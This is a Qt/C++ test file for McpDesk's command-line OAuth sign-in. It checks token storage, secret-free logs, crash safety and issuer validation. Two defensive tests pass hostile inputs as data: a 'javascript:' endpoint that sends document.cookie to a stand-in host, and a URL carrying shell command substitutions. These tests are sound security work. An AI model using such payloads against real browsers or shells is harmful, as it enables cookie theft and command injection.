// SPDX-FileCopyrightText: The McpDesk authors
// SPDX-License-Identifier: Apache-2.0
// Sign-in end to end with mcpdesk-cli against the SDK's OAuth example server
// (401 → discovery → dynamic registration → PKCE → our loopback callback hit over
// real HTTP → token → tools), tokens in the real keychain of the test session,
// and nothing secret anywhere else. Also: authorization endpoints McpDesk must
// refuse to open, and what is passed to the browser opener.
#include "CliRun.h"
#include "PeerProcess.h"

#include <QDeadlineTimer>
#include <QDir>
#include <QFile>
#include <QNetworkAccessManager>
#include <QNetworkReply>
#include <QProcess>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QSslCertificate>
#include <QSslConfiguration>
#include <QTemporaryDir>
#include <QTest>
#include <QUrlQuery>

#include <csignal>
#include <functional>
#include <sys/resource.h>

namespace {
QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

// Plays the browser: GET the authorization URL without following redirects,
// then GET the Location (our loopback callback). Returns the callback's status.
// The certificate authorities the played browser trusts besides the system's.
QList<QSslCertificate> g_browserCas;

int playBrowser(const QUrl &authUrl, QUrl *callback, QByteArray *page = nullptr)
{
    QNetworkAccessManager nam;
    QNetworkRequest req(authUrl);
    if (!g_browserCas.isEmpty()) {
        QSslConfiguration tls = QSslConfiguration::defaultConfiguration();
        tls.addCaCertificates(g_browserCas);
        req.setSslConfiguration(tls);
    }
    req.setAttribute(QNetworkRequest::RedirectPolicyAttribute,
                     QNetworkRequest::ManualRedirectPolicy);
    QNetworkReply *r = nam.get(req);
    QSignalSpy done(r, &QNetworkReply::finished);
    done.wait(10000);
    *callback = authUrl.resolved(QUrl::fromEncoded(r->rawHeader("Location")));
    delete r;
    QNetworkReply *c = nam.get(QNetworkRequest(*callback));
    QSignalSpy cdone(c, &QNetworkReply::finished);
    cdone.wait(10000);
    const int status = c->attribute(QNetworkRequest::HttpStatusCodeAttribute).toInt();
    if (page)
        *page = c->readAll();
    delete c;
    return status;
}
} // namespace

class TestOAuthCli : public QObject
{
    Q_OBJECT

    QTemporaryDir home;
    QProcessEnvironment env;

    using Run = CliRun;
    static Run cli(const QStringList &args, const QProcessEnvironment &e)
    {
        return runCli(args, e);
    }

    struct SdkServer
    {
        QProcess proc;
        quint16 mcpPort = 0, authPort = 0;
        QString url;
        bool start()
        {
            mcpPort = PeerProcess::freePort();
            authPort = PeerProcess::freePort();
            QProcessEnvironment se = QProcessEnvironment::systemEnvironment();
            se.insert(QStringLiteral("MCP_PORT"), QString::number(mcpPort));
            se.insert(QStringLiteral("MCP_AUTH_PORT"), QString::number(authPort));
            proc.setProcessEnvironment(se);
            proc.start(PeerProcess::node(),
                       {PeerProcess::peersDir() +
                            QStringLiteral("/node_modules/@modelcontextprotocol/sdk/dist/esm/"
                                           "examples/server/simpleStreamableHttp.js"),
                        QStringLiteral("--oauth"), QStringLiteral("--oauth-strict")});
            url = QStringLiteral("http://localhost:%1/mcp").arg(mcpPort);
            return proc.waitForStarted() && PeerProcess::portOpen(mcpPort, 20000) &&
                   PeerProcess::portOpen(authPort, 20000);
        }
        ~SdkServer()
        {
            proc.terminate();
            proc.waitForFinished(3000);
        }
    };

    // `login --no-browser`, with this test as the browser. Returns the exit code.
    int login(const QString &url, const QProcessEnvironment &e, QString *out, QString *errText,
              QUrl *authUrlOut = nullptr, QString *code = nullptr, QByteArray *page = nullptr,
              const QStringList &more = {}, const std::function<void()> &beforeBrowser = {})
    {
        QProcess p;
        p.setProcessEnvironment(e);
        p.start(QStringLiteral(MCPDESK_CLI),
                QStringList{QStringLiteral("login"), url, QStringLiteral("--no-browser")} + more);
        if (!p.waitForStarted())
            return -1;
        QUrl authUrl;
        QDeadlineTimer deadline(20000);
        while (!authUrl.isValid() && !deadline.hasExpired() && p.state() == QProcess::Running) {
            p.waitForReadyRead(100);
            *errText += QString::fromUtf8(p.readAllStandardError());
            const auto m = QRegularExpression(QStringLiteral("\\n  (http\\S+)\\n")).match(*errText);
            if (m.hasMatch())
                authUrl = QUrl::fromEncoded(m.captured(1).toUtf8());
        }
        if (!authUrl.isValid())
            return -1;
        if (authUrlOut)
            *authUrlOut = authUrl;
        if (beforeBrowser)
            beforeBrowser();
        QUrl callback;
        if (playBrowser(authUrl, &callback, page) != 200)
            return -1;
        if (code)
            *code = QUrlQuery(callback).queryItemValue(QStringLiteral("code"));
        p.waitForFinished(20000);
        *out = QString::fromUtf8(p.readAllStandardOutput());
        *errText += QString::fromUtf8(p.readAllStandardError());
        return p.exitCode();
    }

private slots:
    void initTestCase()
    {
        env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("XDG_CONFIG_HOME"), home.filePath(QStringLiteral("config")));
        // Debug logging on: the logs must stay clean of secrets even then.
        env.insert(QStringLiteral("QT_LOGGING_RULES"), QStringLiteral("mcpdesk.*=true"));
    }

    void fullSignInWithTheSdkServer()
    {
        // The SDK example: its own authorization server, strict about the resource.
        SdkServer server;
        QVERIFY(server.start());
        const QString url = server.url;
        const quint16 authPort = server.authPort;

        // Before signing in: exit 6 with a hint.
        Run before = cli({QStringLiteral("tools"), url}, env);
        QCOMPARE(before.code, 6);
        QVERIFY2(before.err.contains(QStringLiteral("mcpdesk-cli login")), qPrintable(before.err));

        // login --no-browser prints the address; this test is the browser.
        QString loginOut, loginErr, code;
        QUrl authUrl;
        const int loginCode = login(url, env, &loginOut, &loginErr, &authUrl, &code);
        QVERIFY2(loginCode == 0, qPrintable(loginErr));
        QCOMPARE(authUrl.port(), int(authPort));
        const QUrlQuery q(authUrl);
        QCOMPARE(q.queryItemValue(QStringLiteral("code_challenge_method")), QStringLiteral("S256"));
        QCOMPARE(q.queryItemValue(QStringLiteral("resource"), QUrl::FullyDecoded), url);
        QVERIFY(!q.queryItemValue(QStringLiteral("state")).isEmpty());
        QCOMPARE(QUrl(q.queryItemValue(QStringLiteral("redirect_uri"), QUrl::FullyDecoded)).host(),
                 QStringLiteral("127.0.0.1")); // the loopback, reached over real HTTP
        QVERIFY(!code.isEmpty());
        QVERIFY2(loginOut.startsWith(QStringLiteral("Signed in to ") + url), qPrintable(loginOut));

        // Signed in: tools are listed with the stored token.
        Run tools = cli({QStringLiteral("tools"), url}, env);
        QVERIFY2(tools.code == 0, qPrintable(tools.err));
        QVERIFY(tools.out.contains(QStringLiteral("greet\t")));
        Run info = cli({QStringLiteral("token"), url}, env);
        QCOMPARE(info.code, 0);
        QVERIFY(info.out.contains(QStringLiteral("issuer: http://localhost:%1").arg(authPort)));
        QVERIFY(info.out.contains(QStringLiteral("access token: ********")));
        Run revealed = cli({QStringLiteral("token"), url, QStringLiteral("--reveal")}, env);
        const QString token = revealed.out.section(QStringLiteral("access token: "), 1).trimmed();
        QVERIFY(token.size() >= 16);

        // No token, code or secret anywhere but the keychain: not in the files,
        // not in the debug logs, not on stdout.
        const QByteArray signins =
            readFile(home.filePath(QStringLiteral("config/McpDesk/signins.json")));
        QVERIFY(signins.contains("hasRefreshToken"));
        for (const QString &secret : {token, code}) {
            QVERIFY2(!signins.contains(secret.toUtf8()), "secret in signins.json");
            QVERIFY2(!loginErr.contains(secret) && !loginOut.contains(secret),
                     "secret in login output");
            QVERIFY2(!tools.err.contains(secret) && !tools.out.contains(secret),
                     "secret in tools output");
            QVERIFY2(!info.out.contains(secret), "secret without --reveal");
        }
        QVERIFY(!loginErr.contains(QStringLiteral("code_verifier")));
        QVERIFY(!loginErr.contains(QStringLiteral("Bearer ")));
        QVERIFY(loginErr.contains(QStringLiteral("mcpdesk.auth"))); // the debug log was really on
        for (const QString &f :
             QDir(home.filePath(QStringLiteral("config/McpDesk"))).entryList(QDir::Files))
            QVERIFY2(!readFile(home.filePath(QStringLiteral("config/McpDesk/") + f))
                          .contains(token.toUtf8()),
                     qPrintable(f));

        // logout forgets it; the next call needs a sign-in again.
        Run out = cli({QStringLiteral("logout"), url}, env);
        QCOMPARE(out.code, 0);
        QCOMPARE(cli({QStringLiteral("tools"), url}, env).code, 6);
        QCOMPARE(cli({QStringLiteral("token"), url}, env).code, 6);

        // Signing in again reuses the registration, so the redirect address must be
        // the registered one (this server refuses any other).
        QString againOut, againErr;
        QUrl againUrl;
        QVERIFY2(login(url, env, &againOut, &againErr, &againUrl) == 0, qPrintable(againErr));
        QCOMPARE(QUrlQuery(againUrl).queryItemValue(QStringLiteral("client_id")),
                 q.queryItemValue(QStringLiteral("client_id")));
        QCOMPARE(
            QUrlQuery(againUrl).queryItemValue(QStringLiteral("redirect_uri"), QUrl::FullyDecoded),
            q.queryItemValue(QStringLiteral("redirect_uri"), QUrl::FullyDecoded));
        QCOMPARE(cli({QStringLiteral("tools"), url}, env).code, 0);
        QCOMPARE(cli({QStringLiteral("logout"), url}, env).code, 0);
    }

    // No keychain: the sign-in works for this run, the user is told it is not
    // kept, and nothing is written in plaintext instead.
    void noKeychainStillSignsIn()
    {
        SdkServer server;
        QVERIFY(server.start());
        QProcessEnvironment e = env;
        e.insert(QStringLiteral("DBUS_SESSION_BUS_ADDRESS"),
                 QStringLiteral("unix:path=/nonexistent/no-bus"));
        e.insert(QStringLiteral("XDG_CONFIG_HOME"), home.filePath(QStringLiteral("nokeychain")));
        QString out, errText, code;
        QCOMPARE(login(server.url, e, &out, &errText, nullptr, &code), 0);
        QVERIFY2(out.contains(QStringLiteral("not kept")), qPrintable(out));
        QVERIFY2(errText.contains(QStringLiteral("will not be kept")), qPrintable(errText));
        QCOMPARE(cli({QStringLiteral("tools"), server.url}, e).code, 6); // nothing was kept
        for (const QString &f :
             QDir(home.filePath(QStringLiteral("nokeychain/McpDesk"))).entryList(QDir::Files))
            QVERIFY(!readFile(home.filePath(QStringLiteral("nokeychain/McpDesk/") + f))
                         .contains(code.toUtf8()));
    }

    // A crash while signed in and mid-call, debug logging on: nothing it prints holds
    // the token, and no core file (a copy of the process's memory) is written.
    void crashOutputHoldsNoSecret()
    {
        SdkServer server;
        QVERIFY(server.start());
        QString out, errText;
        QCOMPARE(login(server.url, env, &out, &errText), 0);
        const Run revealed =
            cli({QStringLiteral("token"), server.url, QStringLiteral("--reveal")}, env);
        const QString token = revealed.out.section(QStringLiteral("access token: "), 1).trimmed();
        QVERIFY(token.size() >= 16);
        for (int sig : {SIGSEGV, SIGABRT}) {
            for (bool allowCores : {true, false}) {
                QTemporaryDir cwd;
                QProcessEnvironment e = env;
                if (allowCores)
                    e.insert(QStringLiteral("MCPDESK_ALLOW_CORE_DUMPS"), QStringLiteral("1"));
                // AddressSanitizer turns core dumps off by itself; here the CLI must.
                e.insert(QStringLiteral("ASAN_OPTIONS"), e.value(QStringLiteral("ASAN_OPTIONS")) +
                                                             QStringLiteral(":disable_coredump=0"));
                QProcess p;
                p.setProcessEnvironment(e);
                p.setWorkingDirectory(cwd.path());
                // As if the user had enabled core dumps: the CLI must turn them off itself.
                p.setChildProcessModifier([] {
                    const rlimit any{RLIM_INFINITY, RLIM_INFINITY};
                    ::setrlimit(RLIMIT_CORE, &any);
                });
                p.start(QStringLiteral(MCPDESK_CLI),
                        {QStringLiteral("call"), server.url, QStringLiteral("multi-greet"),
                         QStringLiteral("--args"), QStringLiteral("{\"name\":\"crash\"}")});
                QVERIFY(p.waitForStarted());
                QString err;
                QTRY_VERIFY_WITH_TIMEOUT((err += QString::fromUtf8(p.readAllStandardError()))
                                             .contains(QStringLiteral("log ")),
                                         10000);
                const QByteArray limits =
                    readFile(QStringLiteral("/proc/%1/limits").arg(p.processId()));
                const QByteArray coreLine = limits.mid(limits.indexOf("Max core file size"))
                                                .split('\n')
                                                .value(0)
                                                .simplified();
                QCOMPARE(coreLine, allowCores
                                       ? QByteArray("Max core file size unlimited unlimited bytes")
                                       : QByteArray("Max core file size 0 0 bytes"));
                if (allowCores) {
                    p.kill();
                    p.waitForFinished();
                    continue;
                }
                QVERIFY(p.processId() > 0);
                ::kill(pid_t(p.processId()), sig);
                QVERIFY(p.waitForFinished(10000));
                // Killed by the signal (a sanitizer build reports the SIGSEGV and exits 1 instead).
                QVERIFY(p.exitStatus() == QProcess::CrashExit || p.exitCode() != 0);
                err += QString::fromUtf8(p.readAllStandardError());
                const QString all = err + QString::fromUtf8(p.readAllStandardOutput());
                QVERIFY2(all.contains(QStringLiteral("mcpdesk.")),
                         qPrintable(all)); // debug logging was on
                QVERIFY2(!all.contains(token), "the token in the crash output");
                QVERIFY(!all.contains(QStringLiteral("Bearer ")));
                QCOMPARE(QDir(cwd.path()).entryList(QDir::Files | QDir::Hidden),
                         QStringList()); // no core file
            }
        }
        QCOMPARE(cli({QStringLiteral("logout"), server.url}, env).code, 0);
    }

    // kill -9 at varying moments of a sign-in to server B — during the token
    // exchange, the keychain writes, the facts file — loses nothing saved before:
    // server A's sign-in is untouched and works, and B is either signed in and
    // working or plainly not signed in (and can sign in again).
    void keychainKillNineLosesNothingSaved()
    {
        SdkServer a, b;
        QVERIFY(a.start());
        QVERIFY(b.start());
        QString out, errText;
        QCOMPARE(login(a.url, env, &out, &errText), 0);
        const Run aBefore = cli({QStringLiteral("token"), a.url, QStringLiteral("--reveal")}, env);
        QCOMPARE(aBefore.code, 0);
        int killedSignedIn = 0, killedNotSignedIn = 0;
        for (int i = 0; i < 12; ++i) {
            QProcess p;
            p.setProcessEnvironment(env);
            p.start(QStringLiteral(MCPDESK_CLI),
                    {QStringLiteral("login"), b.url, QStringLiteral("--no-browser")});
            QVERIFY(p.waitForStarted());
            QString loginErr;
            QUrl authUrl;
            QDeadlineTimer deadline(20000);
            while (!authUrl.isValid() && !deadline.hasExpired() && p.state() == QProcess::Running) {
                p.waitForReadyRead(50);
                loginErr += QString::fromUtf8(p.readAllStandardError());
                const auto m =
                    QRegularExpression(QStringLiteral("\\n  (http\\S+)\\n")).match(loginErr);
                if (m.hasMatch())
                    authUrl = QUrl::fromEncoded(m.captured(1).toUtf8());
            }
            QVERIFY(authUrl.isValid());
            QUrl callback;
            QCOMPARE(playBrowser(authUrl, &callback), 200);
            // After the callback: the token request, then the keychain and the facts file.
            QTest::qWait(i * 4);
            p.kill(); // SIGKILL, if it has not finished by itself
            p.waitForFinished();

            const Run aNow = cli({QStringLiteral("token"), a.url, QStringLiteral("--reveal")}, env);
            QCOMPARE(aNow.code, 0);
            QCOMPARE(aNow.out, aBefore.out); // A's sign-in, token included, is as it was
            QCOMPARE(cli({QStringLiteral("tools"), a.url}, env).code, 0);
            const Run bNow = cli({QStringLiteral("tools"), b.url}, env);
            QVERIFY2(bNow.code == 0 || bNow.code == 6, qPrintable(bNow.err));
            if (bNow.code == 6)
                QVERIFY2(bNow.err.contains(QStringLiteral("mcpdesk-cli login")),
                         qPrintable(bNow.err));
            ++(bNow.code == 0 ? killedSignedIn : killedNotSignedIn);
        }
        qInfo("killed during sign-in 12 times: %d left B signed in, %d not yet", killedSignedIn,
              killedNotSignedIn);
        errText.clear();
        QVERIFY2(login(b.url, env, &out, &errText) == 0, qPrintable(errText));
        const Run bAfter = cli({QStringLiteral("tools"), b.url}, env);
        QVERIFY2(bAfter.code == 0, qPrintable(errText + QStringLiteral("\n---\n") + bAfter.err));
        QCOMPARE(cli({QStringLiteral("logout"), a.url}, env).code, 0);
        QCOMPARE(cli({QStringLiteral("logout"), b.url}, env).code, 0);
    }

    // A process killed between creating signins.json.lock and writing its pid into it
    // leaves an empty lock file: a sign-in finished just after waits it out and is kept.
    void leftOverLockDoesNotLoseTheSignIn()
    {
        SdkServer server;
        QVERIFY(server.start());
        QProcessEnvironment e = env;
        e.insert(QStringLiteral("XDG_CONFIG_HOME"), home.filePath(QStringLiteral("leftlock")));
        QVERIFY(QDir().mkpath(home.filePath(QStringLiteral("leftlock/McpDesk"))));
        QFile lock(home.filePath(QStringLiteral("leftlock/McpDesk/signins.json.lock")));
        QString out, errText;
        QCOMPARE(login(server.url, e, &out, &errText, nullptr, nullptr, nullptr, {},
                       [&lock] {
                           QVERIFY(lock.open(QIODevice::WriteOnly));
                           lock.close();
                       }),
                 0);
        QVERIFY2(!out.contains(QStringLiteral("not kept")), qPrintable(out + errText));
        const Run tools = cli({QStringLiteral("tools"), server.url}, e);
        QVERIFY2(tools.code == 0, qPrintable(tools.err));
        QCOMPARE(cli({QStringLiteral("logout"), server.url}, e).code, 0);
    }

    // An authorization endpoint that is not https (or http on loopback) is never opened.
    void javascriptEndpointRefused()
    {
        PeerProcess fake;
        QVERIFY(
            fake.startScript(QStringLiteral("fake-mcp-server.mjs"),
                             {QStringLiteral("--mode"), QStringLiteral("oauth-evil"),
                              QStringLiteral("--auth-endpoint"),
                              QStringLiteral("javascript:fetch('http://x/'+document.cookie)")}));
        QTemporaryDir bin;
        const QString record = bin.filePath(QStringLiteral("opened.txt"));
        writeFakeOpener(bin.path(), record);
        QProcessEnvironment e = env;
        e.insert(QStringLiteral("PATH"),
                 bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
        const Run r = cli({QStringLiteral("login"), fake.url().toString()}, e);
        QCOMPARE(r.code, 6);
        QVERIFY2(r.err.contains(QStringLiteral("will not open")), qPrintable(r.err));
        QTest::qWait(300);
        QVERIFY(!QFile::exists(record)); // the opener never ran
    }

    // Shell metacharacters in the address reach the opener as one inert argument.
    void shellMetacharactersAreInert()
    {
        QTemporaryDir bin;
        const QString marker = bin.filePath(QStringLiteral("pwned"));
        PeerProcess fake;
        QVERIFY(fake.startScript(
            QStringLiteral("fake-mcp-server.mjs"),
            {QStringLiteral("--mode"), QStringLiteral("oauth-evil"),
             QStringLiteral("--auth-endpoint"),
             QStringLiteral("http://127.0.0.1:9/authorize?a=$(touch %1)&b=`touch %1`;touch %1")
                 .arg(marker)}));
        const QString record = bin.filePath(QStringLiteral("opened.txt"));
        writeFakeOpener(bin.path(), record);
        QProcessEnvironment e = env;
        e.insert(QStringLiteral("PATH"),
                 bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
        QProcess login;
        login.setProcessEnvironment(e);
        login.start(QStringLiteral(MCPDESK_CLI),
                    {QStringLiteral("login"), fake.url().toString(), QStringLiteral("--timeout"),
                     QStringLiteral("3")});
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(record), 10000);
        login.kill();
        login.waitForFinished();
        const QList<QByteArray> args = readFile(record).split('\n');
        QCOMPARE(args.value(0), QByteArray("argc=1")); // exactly one argument
        QVERIFY(args.value(1).startsWith("http://127.0.0.1:9/authorize?"));
        QVERIFY(!QFile::exists(marker)); // nothing was executed
    }

    // The authorization server declines: the person reads its own words (decoded as
    // a form: "+" is a space), in the terminal and on the browser's page.
    void declineShowsTheServersWords()
    {
        PeerProcess as;
        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
                               {QStringLiteral("--deny"),
                                QStringLiteral("The user cancelled the request"),
                                QStringLiteral("--iss-supported")}));
        QString out, errText;
        QByteArray page;
        QCOMPARE(login(as.url().toString(), isolated(QStringLiteral("decline")), &out, &errText,
                       nullptr, nullptr, &page),
                 6);
        QVERIFY2(
            errText.contains(QStringLiteral("The sign-in was declined. The sign-in server said: "
                                            "“The user cancelled the request”")),
            qPrintable(errText));
        QVERIFY2(page.contains("The user cancelled the request"), page.constData());
    }

    // RFC 9207: an answer whose `iss` is not the issuer, character for character (or
    // missing where the server said it sends one) is ignored, an error as much as a
    // code, and the browser's page says so instead of the answer's words.
    void answerFromAnotherIssuerIgnored_data()
    {
        QTest::addColumn<QStringList>("serverArgs");
        const QString deny = QStringLiteral("--deny");
        const QString forged = QStringLiteral("Forged words");
        QTest::newRow("code, iss with a slash added")
            << QStringList{QStringLiteral("--iss"), QStringLiteral("slash")};
        QTest::newRow("code, another iss")
            << QStringList{QStringLiteral("--iss"), QStringLiteral("wrong")};
        QTest::newRow("code, iss missing though promised") << QStringList{
            QStringLiteral("--iss"), QStringLiteral("none"), QStringLiteral("--iss-supported")};
        QTest::newRow("error, another iss")
            << QStringList{deny, forged, QStringLiteral("--iss"), QStringLiteral("wrong")};
        QTest::newRow("error, iss missing though promised")
            << QStringList{deny, forged, QStringLiteral("--iss"), QStringLiteral("none"),
                           QStringLiteral("--iss-supported")};
    }
    void answerFromAnotherIssuerIgnored()
    {
        QFETCH(QStringList, serverArgs);
        PeerProcess as;
        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"), serverArgs));
        QString out, errText;
        QByteArray page;
        QCOMPARE(login(as.url().toString(), isolated(QStringLiteral("iss")), &out, &errText,
                       nullptr, nullptr, &page),
                 6);
        QVERIFY2(errText.contains(
                     QStringLiteral("did not come from http://127.0.0.1:%1; McpDesk ignored it")
                         .arg(as.port())),
                 qPrintable(errText));
        QVERIFY2(!errText.contains(QStringLiteral("Forged")), qPrintable(errText));
        QVERIFY2(page.contains("did not come from the sign-in server McpDesk asked"),
                 page.constData());
        QVERIFY(!page.contains("Forged"));
        // No code was exchanged (the server prints its lines in order: wait for the
        // browser's visit to be read, then for anything that would follow it).
        QTRY_VERIFY_WITH_TIMEOUT(as.lines().contains(QStringLiteral("authorize")), 5000);
        QTest::qWait(300);
        QVERIFY(!as.lines().contains(QStringLiteral("token code")));
    }

    // RFC 8414 §3.3: the metadata's issuer must be the PRM's, character for character.
    void metadataIssuerWithAddedSlashRefused()
    {
        PeerProcess as;
        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
                               {QStringLiteral("--metadata-issuer-slash")}));
        const Run r =
            cli({QStringLiteral("login"), as.url().toString(), QStringLiteral("--no-browser")},
                isolated(QStringLiteral("metadata")));
        QCOMPARE(r.code, 6);
        QVERIFY2(r.err.contains(
                     QStringLiteral(
                         "names issuer “http://127.0.0.1:%1/” instead of “http://127.0.0.1:%1”")
                         .arg(as.port())),
                 qPrintable(r.err));
        QVERIFY(!r.err.contains(
            QStringLiteral("Open this address"))); // no browser was asked to open anything
    }

    // A token endpoint that takes the request and never answers: the sign-in fails in
    // words once the timeout has passed, and nothing waits for it any longer.
    void hungTokenEndpointTimesOut()
    {
        PeerProcess as;
        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
                               {QStringLiteral("--hang-token")}));
        QString out, errText;
        const int code =
            login(as.url().toString(), isolated(QStringLiteral("hang")), &out, &errText, nullptr,
                  nullptr, nullptr, {QStringLiteral("--timeout"), QStringLiteral("2")});
        QTRY_VERIFY(as.lines().contains(QStringLiteral("token hang")));
        QCOMPARE(code, 6);
        QVERIFY2(errText.contains(QStringLiteral("127.0.0.1 did not answer in time (2 s)")),
                 qPrintable(errText));
    }

    // An authorization server with a private CA: signing in works once the server's
    // "extra CA" is given, for the sign-in's requests as for the server's own.
    void privateCaSignIn()
    {
        QTemporaryDir dir;
        QVERIFY(makeTestCertificate(dir.path(), QStringLiteral("127.0.0.1"), true));
        PeerProcess as;
        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
                               {QStringLiteral("--tls"), dir.path()}));
        const QString url = QStringLiteral("https://127.0.0.1:%1/mcp").arg(as.port());
        const QString ca = dir.filePath(QStringLiteral("cert.pem"));
        g_browserCas = QSslCertificate::fromPath(ca);
        const QProcessEnvironment e = isolated(QStringLiteral("private-ca"));
        QString out, errText;
        const int code = login(url, e, &out, &errText, nullptr, nullptr, nullptr,
                               {QStringLiteral("--ca-file"), ca});
        g_browserCas.clear();
        QVERIFY2(code == 0, qPrintable(errText));
        QTRY_VERIFY(as.lines().contains(QStringLiteral("token code")));
        const Run tools = cli({QStringLiteral("tools"), url, QStringLiteral("--ca-file"), ca}, e);
        QVERIFY2(tools.code == 0, qPrintable(tools.err));
        QVERIFY(tools.out.startsWith(QStringLiteral("echo")));
    }

    // A token stored by another process that expires within the minute is renewed
    // before it is used, not sent as it is.
    void nearExpiryRenewedBeforeUse()
    {
        PeerProcess as;
        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"),
                               {QStringLiteral("--token-seconds"), QStringLiteral("30")}));
        const QProcessEnvironment e = isolated(QStringLiteral("renew"));
        QString out, errText;
        QVERIFY2(login(as.url().toString(), e, &out, &errText) == 0, qPrintable(errText));
        QTRY_VERIFY_WITH_TIMEOUT(as.lines().contains(QStringLiteral("mcp tools/list ok")),
                                 5000); // login's last
        const qsizetype before = as.lines().size();
        const Run tools = cli({QStringLiteral("tools"), as.url().toString()}, e);
        QVERIFY2(tools.code == 0, qPrintable(tools.err));
        QTRY_VERIFY_WITH_TIMEOUT(as.lines().contains(QStringLiteral("mcp tools/list ok")) &&
                                     as.lines().lastIndexOf(QStringLiteral("mcp tools/list ok")) >=
                                         before,
                                 5000);
        const QStringList after = as.lines().mid(before);
        QVERIFY2(!after.isEmpty() && after.first().startsWith(QStringLiteral("refresh rt-1-")),
                 qPrintable(after.join(QLatin1Char('|'))));
        QVERIFY(!after.contains(QStringLiteral("mcp initialize 401")));
        QCOMPARE(cli({QStringLiteral("logout"), as.url().toString()}, e).code, 0);
    }

    // A token the person gave with --header that the server refuses: said as such,
    // without a hint to sign in (no sign-in of McpDesk's was involved).
    void givenTokenRefusedSaysSo()
    {
        PeerProcess as;
        QVERIFY(as.startScript(QStringLiteral("fake-oauth-server.mjs"), {}));
        const Run r = cli({QStringLiteral("tools"), as.url().toString(), QStringLiteral("--header"),
                           QStringLiteral("Authorization: Bearer not-a-real-token")},
                          isolated(QStringLiteral("given")));
        QCOMPARE(r.code, 6);
        QVERIFY2(r.err.contains(QStringLiteral(
                     "the server refused the token given with --header (HTTP 401: invalid_token)")),
                 qPrintable(r.err));
        QVERIFY2(!r.err.contains(QStringLiteral("login")) &&
                     !r.err.contains(QStringLiteral("sign in")),
                 qPrintable(r.err));
        QVERIFY(!r.err.contains(QStringLiteral("not-a-real-token")));
    }

private:
    // The test's environment with a configuration folder of its own.
    QProcessEnvironment isolated(const QString &name) const
    {
        QProcessEnvironment e = env;
        e.insert(QStringLiteral("XDG_CONFIG_HOME"), home.filePath(name));
        return e;
    }

    static void writeFakeOpener(const QString &dir, const QString &record)
    {
        QFile f(dir + QStringLiteral("/xdg-open"));
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(QStringLiteral("#!/bin/sh\nprintf 'argc=%s\\n%s\\n' \"$#\" \"$1\" > '%1'\n")
                    .arg(record)
                    .toUtf8());
        f.close();
        f.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
    }
};

QTEST_GUILESS_MAIN(TestOAuthCli)
#include "tst_oauth_cli.moc"
